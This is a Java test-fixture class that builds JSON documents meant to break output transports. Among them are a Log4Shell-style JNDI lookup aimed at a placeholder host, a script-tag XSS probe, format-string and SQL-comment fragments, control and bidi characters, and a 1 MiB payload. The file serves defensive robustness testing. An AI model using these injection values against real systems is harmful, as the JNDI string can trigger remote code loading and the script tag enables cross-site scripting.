package org.geophone.testkit.output;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** JSON documents of the kinds that break transports: names come from attackers, and some documents are large. */
final class HostileDocuments {
    private static final int LARGE = 1024 * 1024;

    private HostileDocuments() {
    }

    static List<byte[]> all() {
        return List.of(
                bytes("{}"),
                bytes("{\"name\":\"\\u0000\\u001b[31m\\r\\n.example\"}"),
                bytes("{\"name\":\"quote\\\"back\\\\slash\"}"),
                bytes("{\"name\":\"${jndi:ldap://x.example/a}%n%s{}'--\"}"),
                bytes("{\"name\":\"<script>alert(1)</script>\"}"),
                bytes("{\"name\":\"b\u00fccher.\u4f8b\u3048.\ud83d\udd73\u2028\u2029\u202e\"}"),
                bytes("{\"large\":\"" + "0123456789abcdef".repeat(LARGE / 16) + "\"}"),
                bytes("{\"last\":true}"));
    }

    static String text(byte[] document) {
        return new String(document, StandardCharsets.UTF_8);
    }

    static String hex(long value) {
        return String.format("%016x", value);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
